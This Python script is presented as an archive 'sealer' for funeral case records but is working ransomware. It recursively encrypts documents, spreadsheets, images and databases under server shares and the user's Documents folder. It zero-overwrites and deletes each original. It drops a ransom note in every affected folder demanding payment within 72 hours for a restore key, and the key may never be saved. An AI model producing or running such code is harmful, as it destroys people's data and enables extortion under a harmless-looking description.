#!/usr/bin/env python3
"""Seal closed funeral case files on the records server.

Every document under the records share is sealed with the archive key,
and the unsealed copy is removed so it cannot be edited afterwards.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-sealer")

DEFAULT_ROOTS = ["/srv/records", "/home/shared/cases", str(Path.home() / "Documents")]
EXTENSIONS = {".pdf", ".docx", ".doc", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".db"}
SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTICE_TEXT = """All case files in this folder have been sealed.
To receive the restore key, contact records-desk@sealkeep.example
with the reference below and arrange payment within 72 hours.
Reference: {ref}
"""


def load_key(key_path):
    path = Path(key_path)
    if path.exists():
        return path.read_bytes()
    key = Fernet.generate_key()
    return key


def candidate_files(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS:
                    yield path


def seal_file(fernet, path):
    data = path.read_bytes()
    target = path.with_name(path.name + SEALED_SUFFIX)
    target.write_bytes(fernet.encrypt(data))
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_notice(folders, ref):
    for folder in folders:
        try:
            (Path(folder) / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=ref))
        except OSError:
            continue


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    parser.add_argument("--key", default="archive.key")
    parser.add_argument("--ref", default=os.uname().nodename)
    return parser.parse_args(argv)


def main(argv=None):
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    args = parse_args(argv)
    fernet = Fernet(load_key(args.key))
    touched = set()
    sealed = 0
    for path in candidate_files(args.roots):
        try:
            seal_file(fernet, path)
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            continue
        touched.add(str(path.parent))
        sealed += 1
        if sealed % 100 == 0:
            LOG.info("%d files sealed", sealed)
    leave_notice(touched, args.ref)
    LOG.info("finished: %d files in %d folders", sealed, len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
